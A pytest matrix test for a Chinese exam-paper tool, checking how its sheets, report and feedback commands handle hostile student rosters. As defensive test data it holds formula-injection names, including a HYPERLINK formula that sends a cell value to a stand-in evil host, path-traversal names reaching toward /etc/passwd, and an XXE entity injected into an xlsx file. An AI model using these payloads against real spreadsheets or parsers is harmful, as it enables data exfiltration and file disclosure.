"""Matrix: hostile rosters through `papergen sheets`, `report --roster` and `feedback --roster`.

A roster is typed by a person: duplicated 准考证号, missing columns, a name
that starts with = + - @ (which Excel would run as a formula) or that holds
path separators (which must never put a file outside the output folder).
Every case runs in a folder that already holds earlier outputs of all three
commands; a refused roster leaves them exactly as they were. The commands
run with the working directory deep inside the case folder, so a name like
``../../x`` that escaped would still be caught by the snapshot.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from papergen.core.errors import ExitCode as X
from papergen.core.excel_text import put_text
from tests.conftest import SMALL_STUDENTS
from tests.matrix import Case, assert_nothing_lost, expand, ids, run_cli, snapshot

SAT = list(SMALL_STUDENTS)  # 准考证号 of the students with graded sheets
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+王五", "-李四", "@SUM(A1:A9)", "=1+1"]
PATH_NAMES = ["../../逃逸", "/etc/passwd", "..\\..\\win\\x", "a/b/c", "..", "CON"]


# -- rosters ------------------------------------------------------------------------------


def csv_roster(rows: list[list[str]], encoding: str = "utf-8-sig"):
    def setup(d: Path, ctx=None) -> None:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        (d / "roster.csv").write_bytes(buffer.getvalue().encode(encoding))

    return setup


def xlsx_roster(rows: list[list[str]], *, cut: bool = False):
    def setup(d: Path, ctx=None) -> None:
        book = Workbook()
        sheet = book.active
        sheet.title = "名单"
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                put_text(sheet.cell(row=r, column=c), value)  # as Excel stores typed text: never a formula
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
        (d / "roster.xlsx").write_bytes(data[: len(data) // 2] if cut else data)

    return setup


def xlsx_roster_with_entity(d: Path, ctx=None) -> None:
    xlsx_roster(HEADER_ROWS)(d)
    data = (d / "roster.xlsx").read_bytes()
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + content
            archive.writestr(item, content)
    (d / "roster.xlsx").write_bytes(out.getvalue())


HEADER = ["准考证号", "姓名", "班级", "座位号"]
HEADER_ROWS = [HEADER] + [[sid, f"学生{n}", "一班", str(n)] for n, sid in enumerate(SAT, start=1)]
DUPLICATE = [HEADER, [SAT[0], "甲", "一班", "1"], [SAT[1], "乙", "一班", "2"], [SAT[0], "丙", "二班", "3"]]
NO_NAME = [["学号", "班级"], [SAT[0], "一班"]]
SHORT_ID = [HEADER, [SAT[0], "甲", "一班", "1"], ["20260300", "乙", "一班", "2"]]


def named(names: list[str]) -> list[list[str]]:
    """Students who sat get the first names; the rest are on the roster without a sheet."""
    rows = [HEADER]
    for n, name in enumerate(names):
        sid = SAT[n] if n < len(SAT) else f"20260399{n:02d}"
        rows.append([sid, name, names[-1 - n], str(n + 1)])  # the class column is hostile too
    return rows


# -- what the outputs must hold ----------------------------------------------------------------


def csv_has_no_formula(names: list[str]):
    def check(d: Path, result) -> None:
        rows = list(csv.reader(io.StringIO((d / "out" / "sheets-座位与试卷类型.csv").read_text(encoding="utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows
        for name in names:  # each name is still there, marked as text
            assert name in cells or "'" + name in cells, name

    return check


def workbook_has_no_formula(names: list[str]):
    def check(d: Path, result) -> None:
        path = d / "out" / "report.xlsx"
        with zipfile.ZipFile(path) as archive:
            for member in archive.namelist():
                if member.startswith("xl/worksheets/"):
                    assert not re.search(rb"<f[ >]", archive.read(member)), f"a formula in {member}"
        book = load_workbook(path)
        cells = {c.value: c for row in book["成绩"].iter_rows(min_row=2) for c in row[2:4]}
        for name in names:
            assert name in cells and cells[name].data_type == "s", name

    return check


def feedback_stays_inside(d: Path, result) -> None:
    folder = d / "out" / "feedback"
    written = [p for p in folder.rglob("*") if p.is_file() and p.name != "earlier.pdf"]
    assert len(written) == len(SAT)
    for path in written:
        assert path.parent == folder and re.fullmatch(r"\d{10}(-[^/\\]+)?\.pdf", path.name), path.name
        assert not path.name.startswith(".") and ".." not in path.name


# -- the table ----------------------------------------------------------------------------------
SHEETS = ("sheets", "{exam}", "--roster", "{d}/roster.csv", "-o", "{d}/out/sheets.pdf")
REPORT = ("report", "{results}", "-o", "{d}/out/report.xlsx", "--roster", "{d}/roster.csv")
FEEDBACK = ("feedback", "{results}", "-o", "{d}/out/feedback", "--roster", "{d}/roster.csv")
SHEETS_OUT = ("out/sheets.pdf", "out/sheets-座位与试卷类型.csv")


def xlsx(argv: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(a.replace("roster.csv", "roster.xlsx") for a in argv)


CASES = [
    Case("sheets-duplicate-id", csv_roster(DUPLICATE), SHEETS, X.input_file, ("{d}/roster.csv", f"第 4 行：准考证号 {SAT[0]} 与第 2 行重复")),
    Case("report-duplicate-id", csv_roster(DUPLICATE), REPORT, X.input_file, ("{d}/roster.csv", f"第 4 行：准考证号 {SAT[0]} 与第 2 行重复")),
    Case("feedback-duplicate-id", csv_roster(DUPLICATE), FEEDBACK, X.input_file, ("{d}/roster.csv", f"第 4 行：准考证号 {SAT[0]} 与第 2 行重复")),
    Case("sheets-duplicate-id-xlsx", xlsx_roster(DUPLICATE), xlsx(SHEETS), X.input_file, ("{d}/roster.xlsx", f"工作表 名单 第 4 行：准考证号 {SAT[0]} 与第 2 行重复")),
    Case("report-missing-column-xlsx", xlsx_roster(NO_NAME), xlsx(REPORT), X.input_file, ("{d}/roster.xlsx:工作表 名单 第 1 行", "缺少列：姓名")),
    Case("sheets-missing-column", csv_roster(NO_NAME), SHEETS, X.input_file, ("{d}/roster.csv:1", "缺少列：姓名", "现有列：学号、班级")),
    Case("report-missing-column", csv_roster(NO_NAME), REPORT, X.input_file, ("{d}/roster.csv:1", "缺少列：姓名")),
    Case("feedback-missing-column", csv_roster(NO_NAME), FEEDBACK, X.input_file, ("{d}/roster.csv:1", "缺少列：姓名")),
    Case("sheets-id-digits", csv_roster(SHORT_ID), SHEETS, X.input_file, ("{d}/roster.csv", "第 3 行：准考证号 20260300 有 8 位，答题卡要求 10 位")),
    Case("report-empty-roster", csv_roster([]), REPORT, X.input_file, ("{d}/roster.csv", "名单是空的")),
    Case("sheets-gbk-roster", csv_roster(HEADER_ROWS, encoding="gbk"), SHEETS, X.input_file, ("{d}/roster.csv:1", "GBK", "iconv")),
    Case("report-truncated-xlsx", xlsx_roster(HEADER_ROWS, cut=True), xlsx(REPORT), X.input_file, ("{d}/roster.xlsx", "已损坏或不完整")),
    Case("feedback-xlsx-external-entity", xlsx_roster_with_entity, xlsx(FEEDBACK), X.input_rejected, ("{d}/roster.xlsx", "DTD")),
    Case("sheets-missing-roster", None, SHEETS, X.input_file, ("{d}/roster.csv", "不存在")),
    # hostile names are accepted, and stay text / stay inside the folder
    Case("sheets-formula-names", csv_roster(named(FORMULA_NAMES)), SHEETS, X.ok, ("5 名考生，共 10 页",), SHEETS_OUT, check=csv_has_no_formula(FORMULA_NAMES)),
    Case("sheets-formula-names-xlsx", xlsx_roster(named(FORMULA_NAMES)), xlsx(SHEETS), X.ok, ("5 名考生",), SHEETS_OUT, check=csv_has_no_formula(FORMULA_NAMES)),
    Case("report-formula-names", csv_roster(named(FORMULA_NAMES)), REPORT, X.ok, ("{d}/out/report.xlsx",), ("out/report.xlsx",), check=workbook_has_no_formula(FORMULA_NAMES)),
    Case("feedback-formula-names", csv_roster(named(FORMULA_NAMES)), FEEDBACK, X.ok, (f"{len(SAT)} 份成绩反馈",), ("out/feedback/*",), check=feedback_stays_inside),
    Case("sheets-path-names", csv_roster(named(PATH_NAMES)), SHEETS, X.ok, ("6 名考生",), SHEETS_OUT, check=csv_has_no_formula([])),
    Case("report-path-names", csv_roster(named(PATH_NAMES)), REPORT, X.ok, ("{d}/out/report.xlsx",), ("out/report.xlsx",), check=workbook_has_no_formula(PATH_NAMES)),
    Case("feedback-path-names", csv_roster(named(PATH_NAMES)), FEEDBACK, X.ok, (f"{len(SAT)} 份成绩反馈",), ("out/feedback/*",), check=feedback_stays_inside),
]


@pytest.fixture(scope="module")
def ctx(small_exam, small_results, tmp_path_factory) -> SimpleNamespace:
    """Earlier outputs of all three commands, made once, copied into every case."""
    earlier = tmp_path_factory.mktemp("earlier-outputs")
    roster = earlier / "roster.csv"
    csv_roster(HEADER_ROWS)(earlier)
    out = earlier / "out"
    out.mkdir()
    for argv in (SHEETS, REPORT):
        assert run_cli(expand(argv, d=earlier, exam=small_exam / "exam.json", results=small_results)).exit_code == 0
    (out / "feedback").mkdir()
    (out / "feedback" / "earlier.pdf").write_bytes((out / "sheets.pdf").read_bytes())
    roster.unlink()
    return SimpleNamespace(exam=small_exam, results=small_results, earlier=out)


@pytest.mark.parametrize("case", CASES, ids=ids(CASES))
def test_roster_matrix(case: Case, ctx, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    d = tmp_path
    shutil.copytree(ctx.earlier, d / "out")
    cwd = d / "cwd" / "a" / "b"  # so that "../../x" relative to the working directory is still inside d
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)
    if case.setup:
        case.setup(d, ctx)
    before = snapshot(d)

    result = run_cli(expand(case.argv, d=d, exam=ctx.exam / "exam.json", results=ctx.results), env=case.env)

    assert result.exit_code == case.exit_code, result.output
    for fragment in expand(case.says, d=d):
        assert fragment in result.output, f"{fragment!r} not in:\n{result.output}"
    assert_nothing_lost(before, d, case.writes)
    if case.check:
        case.check(d, result)
